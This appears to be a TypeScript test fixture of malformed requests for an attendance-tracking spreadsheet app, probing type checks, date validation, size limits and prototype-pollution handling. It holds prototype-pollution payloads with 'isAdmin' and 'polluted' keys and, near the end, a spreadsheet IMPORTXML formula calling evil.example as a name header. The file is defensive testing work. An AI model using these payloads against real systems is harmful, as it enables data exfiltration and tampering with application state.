/**
 * Malformed requests to every endpoint: wrong types, missing fields, prototype keys, impossible
 * dates, oversized lists. The practice behind each has a record with Amy (C001), Ben (C002) and
 * Cleo (C003, excused, follow-up asked) from one session on 2025-03-10; today is 2025-03-12.
 */
import type { Environment } from '../../src/runtime';
import { newRequestId, recordEntries, session } from '../server/fixtures';
import type { Outcome } from './probe';

export interface MalformedRequest {
  label: string;
  endpoint: string;
  args: (env: Environment) => unknown[];
  /** 'refuse': no endpoint may accept it; 'either': inert acceptance is fine too. */
  accept: 'refuse' | 'either';
  /** Texts of the request the message may quote back. */
  echoed?: string[];
  /** Further problems to report about the outcome. */
  check?: (env: Environment, outcome: Outcome<unknown>) => string[];
}

/** The Entry ID of a client's first entry in the record. */
export function entryOf(env: Environment, clientId: string): string {
  const row = recordEntries(env).find((r) => r['Client ID'] === clientId);
  if (!row) throw new Error(`fixture: no entry for ${clientId}`);
  return String(row['Entry ID']);
}

const valid = () => session(['C001']);
const withMark = (mark: Record<string, unknown>) => ({
  ...valid(),
  attendance: [{ clientId: 'C001', status: 'present', ...mark }],
});
/** JSON.parse makes `__proto__` an own key, as a request decoded from the bridge would have it. */
const parsed = (json: string) => JSON.parse(json) as unknown;

const refuseSave = (label: string, request: () => unknown): MalformedRequest => ({
  label: `saveSession ${label}`,
  endpoint: 'saveSession',
  args: () => [request()],
  accept: 'refuse',
});
const refuse = (endpoint: string, label: string, args: (env: Environment) => unknown[]): MalformedRequest => ({
  label: `${endpoint} ${label}`,
  endpoint,
  args,
  accept: 'refuse',
});

/** After an accepted request: the stored settings still hold what they held, with no foreign key. */
function settingsUnpolluted(env: Environment): string[] {
  const stored = env.documentProperties()['cadence.settings'];
  if (!stored) return [];
  const problems: string[] = [];
  const keys = (o: object): string[] =>
    Object.keys(o).flatMap((k) => [
      k,
      ...(typeof (o as Record<string, unknown>)[k] === 'object' && (o as Record<string, unknown>)[k]
        ? keys((o as Record<string, object>)[k])
        : []),
    ]);
  const found = keys(JSON.parse(stored) as object);
  for (const bad of ['__proto__', 'constructor', 'prototype', 'polluted', 'isAdmin'])
    if (found.includes(bad)) problems.push(`stored settings carry the key ${bad}`);
  return problems;
}

const DATES_REFUSED = [
  '2025-02-30',
  '2025-02-29',
  '2025-04-31',
  '2025-13-01',
  '2025-00-10',
  '2025-03-00',
  '2025-3-10',
  '25-03-10',
  '2025/03/10',
  '03/10/2025',
  '10.03.2025',
  '2025-03-10T00:00:00Z',
  '2025-03-10 ',
  ' 2025-03-10',
  '',
  'today',
  '+02025-03-10',
  '２０２５-03-10',
  '2025-03-1\u0660',
  '2026-03-14',
  '9999-12-31',
  'NaN-NaN-NaN',
];

export const MALFORMED_REQUESTS: readonly MalformedRequest[] = [
  // The request as a whole.
  refuseSave('with no argument', () => undefined),
  refuseSave('null', () => null),
  refuseSave('a string', () => 'save please'),
  refuseSave('a number', () => 42),
  refuseSave('true', () => true),
  refuseSave('an empty array', () => []),
  refuseSave('an array holding a valid request', () => [valid()]),
  refuseSave('an empty object', () => ({})),
  // Request id.
  refuseSave('without a requestId', () => ({ ...valid(), requestId: undefined })),
  refuseSave('requestId a number', () => ({ ...valid(), requestId: 42 })),
  refuseSave('requestId an object', () => ({ ...valid(), requestId: { id: 'x' } })),
  refuseSave('requestId blank', () => ({ ...valid(), requestId: '   ' })),
  refuseSave('requestId of 201 characters', () => ({ ...valid(), requestId: 'r'.repeat(201) })),
  // Dates.
  refuseSave('without a date', () => ({ ...valid(), date: undefined })),
  refuseSave('date a number', () => ({ ...valid(), date: 20250310 })),
  refuseSave('date an object', () => ({ ...valid(), date: { year: 2025, month: 3, day: 10 } })),
  refuseSave('date an array', () => ({ ...valid(), date: [2025, 3, 10] })),
  ...DATES_REFUSED.map((date): MalformedRequest => ({
    ...refuseSave(`date ${JSON.stringify(date)}`, () => ({ ...valid(), date })),
    echoed: [date],
  })),
  refuseSave('date of a megabyte', () => ({ ...valid(), date: '2'.repeat(1 << 20) })),
  {
    label: 'saveSession date 0025-03-10 (a mistyped year)',
    endpoint: 'saveSession',
    args: () => [{ ...valid(), date: '0025-03-10' }],
    accept: 'either',
    check: (env, outcome) =>
      outcome.accepted ? readBackDate(env, (outcome.result as { entryIds: string[] }).entryIds[0], '0025-03-10') : [],
  },
  // Group.
  refuseSave('group a number', () => ({ ...valid(), group: 7 })),
  refuseSave('group an object', () => ({ ...valid(), group: { name: 'Monday group' } })),
  refuseSave('group of 201 characters', () => ({ ...valid(), group: 'g'.repeat(201) })),
  // Attendance.
  refuseSave('without attendance', () => ({ ...valid(), attendance: undefined })),
  refuseSave('attendance null', () => ({ ...valid(), attendance: null })),
  refuseSave('attendance an object', () => ({ ...valid(), attendance: { clientId: 'C001', status: 'present' } })),
  refuseSave('attendance an array-like object', () => ({
    ...valid(),
    attendance: { length: 1, 0: { clientId: 'C001', status: 'present' } },
  })),
  refuseSave('attendance a string', () => ({ ...valid(), attendance: 'C001 present' })),
  refuseSave('attendance holding null', () => ({ ...valid(), attendance: [null] })),
  refuseSave('attendance holding a string', () => ({ ...valid(), attendance: ['C001'] })),
  refuseSave('attendance holding an array', () => ({ ...valid(), attendance: [['C001', 'present']] })),
  refuseSave('attendance holding an empty mark', () => ({ ...valid(), attendance: [{}] })),
  refuseSave('a mark without a status', () => withMark({ status: undefined })),
  refuseSave('a mark without a client', () => withMark({ clientId: undefined })),
  refuseSave('clientId a number', () => withMark({ clientId: 1 })),
  refuseSave('clientId an object', () => withMark({ clientId: { id: 'C001' } })),
  refuseSave('clientId in another case', () => withMark({ clientId: 'c001' })),
  refuseSave('clientId with a space', () => withMark({ clientId: ' C001' })),
  refuseSave('clientId of a megabyte', () => withMark({ clientId: 'C'.repeat(1 << 20) })),
  refuseSave('status capitalised', () => withMark({ status: 'Present' })),
  refuseSave('status with a space', () => withMark({ status: 'present ' })),
  refuseSave('status "withdrawn" (a record status, not a mark)', () => withMark({ status: 'withdrawn' })),
  refuseSave('status a number', () => withMark({ status: 1 })),
  refuseSave('status of a megabyte', () => withMark({ status: 's'.repeat(1 << 20) })),
  refuseSave('notice "yes"', () => withMark({ status: 'excused', notice: 'yes' })),
  refuseSave('notice 1', () => withMark({ status: 'excused', notice: 1 })),
  refuseSave('followUp "true"', () => withMark({ status: 'excused', followUp: 'true' })),
  refuseSave('followUp 1', () => withMark({ status: 'excused', followUp: 1 })),
  refuseSave('note a number', () => withMark({ status: 'excused', note: 42 })),
  refuseSave('note an object', () => withMark({ status: 'excused', note: { text: 'x' } })),
  refuseSave('note an array', () => withMark({ status: 'excused', note: ['x'] })),
  refuseSave('reason an array', () => withMark({ status: 'excused', reason: ['illness'] })),
  refuseSave('a client marked 2,000 times', () => ({
    ...valid(),
    attendance: Array.from({ length: 2000 }, () => ({ clientId: 'C001', status: 'present' })),
  })),
  refuseSave('2,000 unknown clients', () => ({
    ...valid(),
    attendance: Array.from({ length: 2000 }, (_, i) => ({ clientId: `X${i}`, status: 'present' })),
  })),
  refuseSave('2,000 marks with bad statuses', () => ({
    ...valid(),
    attendance: Array.from({ length: 2000 }, () => ({ clientId: 'C001', status: 'gone' })),
  })),
  // Prototype keys, as JSON decoding delivers them.
  refuseSave('a mark that is only a __proto__', () => ({
    ...valid(),
    attendance: [parsed('{"__proto__":{"clientId":"C001","status":"present"}}')],
  })),
  refuseSave('a request that is only a __proto__', () => parsed(`{"__proto__":${JSON.stringify(valid())}}`)),
  refuseSave('a request that is only a constructor.prototype', () =>
    parsed(`{"constructor":{"prototype":${JSON.stringify(valid())}}}`),
  ),
  {
    label: 'saveSession with an extra __proto__ key',
    endpoint: 'saveSession',
    accept: 'either',
    args: () => [parsed(`{"__proto__":{"isAdmin":true},${JSON.stringify(valid()).slice(1)}`)],
  },
  {
    label: 'saveSession with an extra constructor key in a mark',
    endpoint: 'saveSession',
    accept: 'either',
    args: () => [
      {
        ...valid(),
        attendance: [parsed('{"clientId":"C001","status":"present","constructor":{"prototype":{"polluted":1}}}')],
      },
    ],
  },
  refuseSave('a mark whose clientId is "__proto__"', () => withMark({ clientId: '__proto__' })),
  refuseSave('a mark whose clientId is "constructor"', () => withMark({ clientId: 'constructor' })),
  refuseSave('a mark whose clientId is "hasOwnProperty"', () => withMark({ clientId: 'hasOwnProperty' })),
  refuseSave('a mark whose status is "constructor"', () => withMark({ status: 'constructor' })),
  refuseSave('a mark whose status is "toString"', () => withMark({ status: 'toString' })),
  // Corrections and withdrawals.
  refuse('correctEntry', 'with no argument', () => []),
  refuse('correctEntry', 'null', () => [null]),
  refuse('correctEntry', 'without an entryId', () => [{ requestId: newRequestId(), status: 'present' }]),
  refuse('correctEntry', 'entryId a number', () => [{ requestId: newRequestId(), entryId: 7, status: 'present' }]),
  refuse('correctEntry', 'an unknown entry', () => [
    { requestId: newRequestId(), entryId: 'no-such-entry', status: 'present' },
  ]),
  refuse('correctEntry', 'to status "withdrawn"', (env) => [
    { requestId: newRequestId(), entryId: entryOf(env, 'C001'), status: 'withdrawn' },
  ]),
  refuse('correctEntry', 'without a status', (env) => [{ requestId: newRequestId(), entryId: entryOf(env, 'C001') }]),
  refuse('correctEntry', 'without a requestId', (env) => [{ entryId: entryOf(env, 'C001'), status: 'late' }]),
  refuse('correctEntry', 'notice "no"', (env) => [
    { requestId: newRequestId(), entryId: entryOf(env, 'C001'), status: 'excused', notice: 'no' },
  ]),
  refuse('correctEntry', 'an entry already corrected', (env) => {
    const entryId = entryOf(env, 'C001');
    env.run('correctEntry', { requestId: newRequestId(), entryId, status: 'late' });
    return [{ requestId: newRequestId(), entryId, status: 'excused' }];
  }),
  refuse('correctEntry', 'a withdrawing row', (env) => {
    const withdrawal = env.run<{ entryId: string }>('withdrawEntry', {
      requestId: newRequestId(),
      entryId: entryOf(env, 'C002'),
    });
    return [{ requestId: newRequestId(), entryId: withdrawal.entryId, status: 'present' }];
  }),
  refuse('withdrawEntry', 'null', () => [null]),
  refuse('withdrawEntry', 'an unknown entry', () => [{ requestId: newRequestId(), entryId: 'no-such-entry' }]),
  refuse('withdrawEntry', 'note a number', (env) => [
    { requestId: newRequestId(), entryId: entryOf(env, 'C001'), note: 5 },
  ]),
  refuse('withdrawEntry', 'note over the limit', (env) => [
    { requestId: newRequestId(), entryId: entryOf(env, 'C001'), note: 'w'.repeat(501) },
  ]),
  refuse('withdrawEntry', 'an entry withdrawn already', (env) => {
    const entryId = entryOf(env, 'C001');
    env.run('withdrawEntry', { requestId: newRequestId(), entryId });
    return [{ requestId: newRequestId(), entryId }];
  }),
  refuse('completeFollowUp', 'with no argument', () => []),
  refuse('completeFollowUp', 'an object', (env) => [{ entryId: entryOf(env, 'C003') }]),
  refuse('completeFollowUp', 'an entry that asks for no follow-up', (env) => [entryOf(env, 'C001')]),
  refuse('completeFollowUp', 'an unknown entry', () => ['no-such-entry']),
  refuse('getClientHistory', 'with no argument', () => []),
  refuse('getClientHistory', 'a number', () => [1]),
  refuse('getClientHistory', 'an object', () => [{ clientId: 'C001' }]),
  // Settings.
  refuse('saveSettings', 'with no argument', () => []),
  refuse('saveSettings', 'a string', () => ['{"maxNoteLength":20}']),
  refuse('saveSettings', 'an array', () => [[{ maxNoteLength: 20 }]]),
  refuse('saveSettings', 'a negative window', () => [{ trend: { watchWindow: -1 } }]),
  refuse('saveSettings', 'a window as text', () => [{ trend: { watchWindow: '4' } }]),
  refuse('saveSettings', 'a fractional window', () => [{ trend: { risingWindow: 6.5 } }]),
  refuse('saveSettings', 'a rate over 100%', () => [{ trend: { pointsAbove: 25 } }]),
  refuse('saveSettings', 'minimum absences above the window', () => [
    { trend: { watchWindow: 4, watchMinAbsences: 5 } },
  ]),
  refuse('saveSettings', 'a huge note limit', () => [{ maxNoteLength: 1e9 }]),
  refuse('saveSettings', 'patternWeeks 0', () => [{ patternWeeks: 0 }]),
  refuse('saveSettings', 'an empty reasons list', () => [{ reasons: [] }]),
  refuse('saveSettings', 'reasons as a string', () => [{ reasons: 'illness' }]),
  refuse('saveSettings', 'reasons holding numbers', () => [{ reasons: [1, 2] }]),
  refuse('saveSettings', 'a reason of 201 characters', () => [{ reasons: ['r'.repeat(201)] }]),
  refuse('saveSettings', '101 reasons', () => [{ reasons: Array.from({ length: 101 }, (_, i) => `reason ${i}`) }]),
  refuse('saveSettings', 'a roster sheet id as text', () => [{ roster: { sheetId: 'Roster' } }]),
  refuse('saveSettings', 'a blank name header', () => [{ roster: { nameHeader: '  ' } }]),
  refuse('saveSettings', 'trend a list', () => [{ trend: [4, 2] }]),
  {
    label: 'saveSettings trend.toString',
    endpoint: 'saveSettings',
    accept: 'either',
    args: () => [{ trend: { toString: 3 } }],
    check: settingsUnpolluted,
  },
  {
    label: 'saveSettings trend.constructor',
    endpoint: 'saveSettings',
    accept: 'either',
    args: () => [{ trend: { constructor: 3 } }],
    check: settingsUnpolluted,
  },
  {
    label: 'saveSettings trend.__proto__',
    endpoint: 'saveSettings',
    accept: 'either',
    args: () => [parsed('{"trend":{"__proto__":{"watchWindow":1}}}')],
    check: settingsUnpolluted,
  },
  {
    label: 'saveSettings __proto__ at the top',
    endpoint: 'saveSettings',
    accept: 'either',
    args: () => [parsed('{"__proto__":{"maxNoteLength":20,"polluted":1}}')],
    check: settingsUnpolluted,
  },
  {
    label: 'saveSettings constructor.prototype',
    endpoint: 'saveSettings',
    accept: 'either',
    args: () => [parsed('{"constructor":{"prototype":{"polluted":1}}}')],
    check: settingsUnpolluted,
  },
  {
    label: 'saveSettings a roster tab that does not exist',
    endpoint: 'saveSettings',
    accept: 'either',
    args: () => [{ roster: { sheetId: 987654 } }],
  },
  {
    label: 'saveSettings a name header no tab has',
    endpoint: 'saveSettings',
    accept: 'either',
    args: () => [{ roster: { nameHeader: '=IMPORTXML("https://evil.example","//a")' } }],
  },
  refuse('createRoster', 'when the practice already has one', () => []),
];

/** The stored session date of an accepted entry, as the sidebar reads it back. */
function readBackDate(env: Environment, entryId: string, sent: string): string[] {
  const history = env.run<{ entryId: string; sessionDate: string }[]>('getClientHistory', 'C001');
  const entry = history.find((e) => e.entryId === entryId);
  return entry?.sessionDate === sent
    ? []
    : [`stored date reads back as ${JSON.stringify(entry?.sessionDate)}, sent ${sent}`];
}
